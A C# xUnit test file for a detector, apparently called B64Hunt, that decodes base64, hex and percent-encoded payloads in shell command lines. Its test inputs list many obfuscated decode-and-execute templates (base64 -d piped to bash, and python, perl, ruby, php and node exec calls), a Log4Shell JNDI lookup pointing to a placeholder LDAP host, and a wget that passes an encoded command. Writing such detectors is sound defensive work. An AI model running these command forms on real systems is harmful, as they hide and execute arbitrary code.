using System.Linq;
using B64Hunt.Decoding;
using Xunit;
using static B64Hunt.Tests.Decoding.Payloads;

namespace B64Hunt.Tests.Decoding
{
    /// <summary>Every way a Linux command line carries base64: {0} in each template is the payload.</summary>
    public class DecoderFormTests
    {
        [Theory]
        [InlineData("echo {0} | base64 -d | bash")]
        [InlineData("echo -n {0} | base64 --decode | sh")]
        [InlineData("echo -e \"{0}\" | base64 -D | sh")]
        [InlineData("printf {0} | base64 -di | bash")]
        [InlineData("printf '%s' '{0}' | base64 -d | bash")]
        [InlineData("echo {0} | b64decode -r | sh")]
        [InlineData("base64 -d <<< {0} | bash")]
        [InlineData("bash <<< $(base64 -d <<< '{0}')")]
        [InlineData("bash -c \"$(echo {0} | base64 -d)\"")]
        [InlineData("bash -c \"`echo {0} | base64 -d`\"")]
        [InlineData("bash -c {{echo,{0}}}|{{base64,-d}}|{{bash,-i}}")]
        [InlineData("echo {0} | basenc --base64 -d | sh")]
        [InlineData("echo {0} | openssl base64 -d | sh")]
        [InlineData("echo {0} | openssl enc -d -base64 -A | sh")]
        [InlineData("echo {0} | busybox base64 -d | sh")]
        [InlineData("python3 -c \"import base64;exec(base64.b64decode('{0}'))\"")]
        [InlineData("python -c \"import base64,os;os.system(base64.b64decode('{0}').decode())\"")]
        [InlineData("python3 -c \"import codecs,os;os.system(codecs.decode(b'{0}','base64').decode())\"")]
        [InlineData("perl -MMIME::Base64 -e 'system(decode_base64(\"{0}\"))'")]
        [InlineData("ruby -rbase64 -e 'system(Base64.decode64(\"{0}\"))'")]
        [InlineData("ruby -e 'system(\"{0}\".unpack(\"m\")[0])'")]
        [InlineData("ruby -e \"system('{0}'.unpack1('m0'))\"")]
        [InlineData("php -r 'system(base64_decode(\"{0}\"));'")]
        [InlineData("node -e \"require('child_process').execSync(Buffer.from('{0}','base64').toString())\"")]
        [InlineData("node -e \"require('child_process').execSync(atob('{0}'))\"")]
        public void DecodesEveryCommonForm(string template)
        {
            string encoded = B64(Command);
            var payload = Single(string.Format(template, encoded));
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(encoded, payload.EncodedText);
            Assert.Equal(new[] { "base64" }, payload.Chain);
            Assert.False(payload.IsBinary);
            Assert.Equal(0, payload.Depth);
            Assert.Null(payload.ParentEncodedText);
        }

        [Fact]
        public void HereDocWithWrappedLines()
        {
            string script = "#!/bin/sh\n" + string.Concat(Enumerable.Repeat(Command + "\n", 4));
            string encoded = B64(script);
            string wrapped = string.Join("\n", Enumerable.Range(0, (encoded.Length + 75) / 76)
                .Select(i => encoded.Substring(i * 76, System.Math.Min(76, encoded.Length - i * 76))));
            var payload = Single("base64 -d <<EOF | sh\n" + wrapped + "\nEOF");
            Assert.Equal(TrimEnd(script), TrimEnd(payload.DecodedText));
            Assert.Equal(wrapped, payload.EncodedText);
        }

        [Fact]
        public void WrappedPayloadWithoutPaddingStopsBeforeTheNextCommand()
        {
            // 52 symbols, no padding: the line break would also bridge into "whoami".
            string text = "echo hello world from a wrapped payload";
            string encoded = B64(text);
            Assert.DoesNotContain("=", encoded);
            var payload = Single("base64 -d <<EOF\n" + encoded + "\nEOF\nwhoami");
            Assert.Equal(text, payload.DecodedText);
            Assert.Equal(encoded, payload.EncodedText);
        }

        [Theory]
        [InlineData("base64 -d <<< {0}\nwhoami")]
        [InlineData("base64 -d <<< {0}\nwhoamiwhoamiwhoamiwhoami\nid")]
        [InlineData("sh -c \"$(echo {0})\"\nAbcdefghAbcdefghAbcdefgh")]
        [InlineData("base64 -d <<< {0}\nPATH=/tmp:$PATH")]
        public void UnpaddedPayloadAtEndOfLineIsNotJoinedWithTheNextLine(string template)
        {
            string text = "echo hello world from a wrapped payload";
            var payload = Single(string.Format(template, B64(text)));
            Assert.Equal(text, payload.DecodedText);
            Assert.Equal(B64(text), payload.EncodedText);
        }

        [Fact]
        public void QuotedPayloadWrappedWithLineContinuations()
        {
            string encoded = B64(Command + "; " + Command);
            string line = "echo \"" + encoded.Substring(0, 20) + "\\\n" + encoded.Substring(20, 24) + "\\\n" + encoded.Substring(44) + "\" | base64 -d | sh";
            var payload = Single(line);
            Assert.Equal(Command + "; " + Command, payload.DecodedText);
        }

        [Fact]
        public void PayloadSplitAcrossAdjacentSingleQuotes()
        {
            string encoded = B64(Command);
            var payload = Single("echo '" + encoded.Substring(0, 10) + "''" + encoded.Substring(10, 13) + "''" + encoded.Substring(23) + "' | base64 -d | sh");
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(encoded.Substring(0, 10) + "''" + encoded.Substring(10, 13) + "''" + encoded.Substring(23), payload.EncodedText);
        }

        [Fact]
        public void PayloadSplitAcrossMixedQuotes()
        {
            string encoded = B64(Command);
            var payload = Single("echo \"" + encoded.Substring(0, 17) + "\"'" + encoded.Substring(17) + "' | base64 -d | sh");
            Assert.Equal(Command, payload.DecodedText);
        }

        [Fact]
        public void UrlSafeAlphabet()
        {
            string encoded = UrlSafe(B64(SymbolCommand));
            Assert.Contains("-", encoded);
            Assert.Contains("_", encoded);
            var payload = Single("echo " + encoded + " | basenc --base64url -d | sh");
            Assert.Equal(SymbolCommand, payload.DecodedText);
            Assert.Equal(new[] { "base64url" }, payload.Chain);
        }

        [Fact]
        public void MissingPadding()
        {
            string encoded = B64(Command + "!!").TrimEnd('=');
            Assert.Equal(2, B64(Command + "!!").Length - encoded.Length);
            var payload = Single("echo " + encoded + " | base64 -d | sh");
            Assert.Equal(Command + "!!", payload.DecodedText);
        }

        [Fact]
        public void StandaloneCommandWithoutAnyDecoderIsFound()
        {
            // No decoder, no padding: a bare token that decodes to a shell command is still interesting.
            string encoded = B64(SymbolCommand);
            var payload = Single("bash -c \"$(echo " + encoded + ")\"");
            Assert.Equal(SymbolCommand, payload.DecodedText);
        }

        [Fact]
        public void PaddedTokenWithoutDecoderIsFound()
        {
            var payload = Single("sh -c \"X=" + B64(Command) + "; eval $X\"");
            Assert.Equal(Command, payload.DecodedText);
        }

        [Fact]
        public void PercentEncodedInRequestString()
        {
            var payload = Single("curl http://x/?q=ZWNobyBoaQ%3D%3D");
            Assert.Equal("echo hi", payload.DecodedText);
            Assert.Equal("ZWNobyBoaQ%3D%3D", payload.EncodedText);
            Assert.Equal(new[] { "percent", "base64" }, payload.Chain);
        }

        [Fact]
        public void PercentEscapedSymbolsInsidePayload()
        {
            string encoded = B64(SymbolCommand);
            string escaped = encoded.Replace("+", "%2B").Replace("/", "%2F");
            var payload = Single("wget \"http://198.51.100.9/c?cmd=" + escaped + "&t=1\"");
            Assert.Equal(SymbolCommand, payload.DecodedText);
            Assert.Equal(new[] { "percent", "base64" }, payload.Chain);
        }

        [Fact]
        public void Log4ShellBase64UrlPath()
        {
            string encoded = B64(Command);
            var payload = Single("curl -H 'X-Api-Version: ${jndi:ldap://192.0.2.1:1389/Basic/Command/Base64/" + encoded + "}' http://target/");
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(encoded, payload.EncodedText);
        }

        [Fact]
        public void HexWithXxd()
        {
            string hex = Hex(Command);
            var payload = Single("echo " + hex + " | xxd -r -p | bash");
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(new[] { "hex" }, payload.Chain);
        }

        [Fact]
        public void HexEscapesWithPrintf()
        {
            string escapes = HexEscapes(Command);
            var payload = Single("printf '" + escapes + "' | sh");
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(escapes, payload.EncodedText);
            Assert.Equal(new[] { "hex" }, payload.Chain);
        }

        [Fact]
        public void HexEscapesWithEchoE()
        {
            var payload = Single("echo -e \"" + HexEscapes("id; uname -a") + "\" | bash");
            Assert.Equal("id; uname -a", payload.DecodedText);
        }

        [Fact]
        public void SeveralPayloadsInOneLineAreAllReturnedInOrder()
        {
            string a = B64("echo first payload"), b = B64("echo second payload");
            var results = new PayloadDecoder().Decode("echo " + a + " | base64 -d; echo " + b + " | base64 -d");
            Assert.Equal(new[] { "echo first payload", "echo second payload" }, results.Select(r => r.DecodedText));
        }

        private static string TrimEnd(string s) => s.TrimEnd('\n');
    }
}
